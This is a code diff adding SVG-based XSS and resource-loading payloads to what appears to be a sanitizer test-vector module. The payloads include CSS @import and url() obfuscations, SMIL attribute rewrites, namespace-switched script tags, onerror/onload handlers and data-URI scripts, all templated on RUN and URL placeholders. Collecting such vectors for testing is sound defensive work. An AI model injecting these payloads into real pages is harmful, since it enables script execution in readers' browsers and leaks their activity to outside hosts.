@@ -417,9 +417,51 @@ DRAWINGS = tuple(
         f"<rect width='9' height='9' filter='url({URL}#x)'/>",
         f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{RUN}</x:script>",
         f"<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x' onerror='{RUN}'/>",
+        f"<style><g/>@import '{URL}';</style>",
+        f"<style>@import<!-- -->'{URL}';</style>",
+        f"<style><![CDATA[@import '{URL}';]]></style>",
+        f"<style>@\\69mport '{URL}';</style>",
+        f"<style>svg {{ background: image-set('{URL}' 1x) }}</style>",
+        f"<style>svg {{ background: -webkit-image-set(url('{URL}') 1x) }}</style>",
+        f"<style>svg {{ background: cross-fade(url('{URL}'), red) }}</style>",
+        f"<style>svg {{ background: image('{URL}') }}</style>",
+        f"<style>svg {{ background: src('{URL}') }}</style>",
+        f"<style>svg {{ background: u\\72l('{URL}') }}</style>",
+        f"<style>svg {{ --x: url('{URL}'); background: var(--x) }}</style>",
+        f"<style>@font-face {{ font-family: x; src: url('{URL}') }} * {{ font-family: x }}</style><text>x</text>",
+        f"<style>rect {{ fill: red; cursor: url('{URL}'), auto }}</style><rect width='9' height='9'/>",
+        f"<g style='background: image-set(&quot;{URL}&quot; 1x)'><circle r='9'/></g>",
+        f"<rect width='9' height='9' cursor='image-set(&quot;{URL}&quot; 1x), auto'/>",
+        f"<rect width='9' height='9'><set attributeName='fill' to='url({URL}#x)'/></rect>",
+        f"<image width='9' height='9'><set attributeName='href' to='{URL}'/></image>",
+        f"<image width='9' height='9'><set attributeName='xlink:href' to='{URL}'/></image>",
+        f"<rect width='9' height='9'><set attributeName='style' to='fill: url({URL}#x)'/></rect>",
+        f"<g xml:base='{URL}'><use href='#x'/></g>",
+        f"<use href='data:image/svg+xml,&lt;svg {_SVG} id=&quot;x&quot; onload=&quot;{RUN}&quot;/&gt;#x'/>",
+        f"<a href='/x' ping='{URL}'><circle r='9'/></a>",
+        f"<a href='data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;'><circle r='9'/></a>",
+        f"<feImage href='{URL}'/>",
+        f"<filter id='f'><feImage href='{URL}'/></filter><rect width='9' height='9' filter='url(#f)'/>",
+        f"<font-face><font-face-src><font-face-uri href='{URL}'/></font-face-src></font-face>",
+        f"<cursor id='c' href='{URL}'/><rect width='9' height='9' cursor='url(#c), auto'/>",
+        f"<audio src='{URL}' autoplay=''/><video src='{URL}'/>",
+        f"<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='stylesheet' href='{URL}'/>",
+        f"<x:audio xmlns:x='http://www.w3.org/1999/xhtml' src='{URL}' onerror='{RUN}'/>",
+        f"<metadata><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script></metadata>",
+        f"<x:listener xmlns:x='http://www.w3.org/2001/xml-events' event='load' handler='#{RUN}'/>",
     )
 )
 """Attacks in drawings, which readers may open on their own."""
+
+ROOTS = (
+    f"<!--<svg {_SVG}>--><script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>",
+    f"<!--<svg {_SVG}>--><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
+    f"<!--<svg>--><html xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'><p>x</p></html>",
+    f"<?x <svg>?><script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>",
+    f"<x:svg xmlns:x='http://www.w3.org/1999/xhtml' onload='{RUN}'/>",
+    f"<svg xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></svg>",
+)
+"""What is no drawing, though `<svg` is in it."""
 
 PROLOGS = (
     f"<?xml version='1.0'?><?xml-stylesheet href='{URL}'?>",
@@ -453,4 +495,4 @@ TEXTS = (
 def count() -> int:
     """Return how many vectors there are."""
     html = sum(map(len, HTML.values()))
-    return html + sum(map(len, (LATEX, MARKDOWN, DRAWINGS, PROLOGS, TEXTS)))
+    return html + sum(map(len, (LATEX, MARKDOWN, DRAWINGS, ROOTS, PROLOGS, TEXTS)))
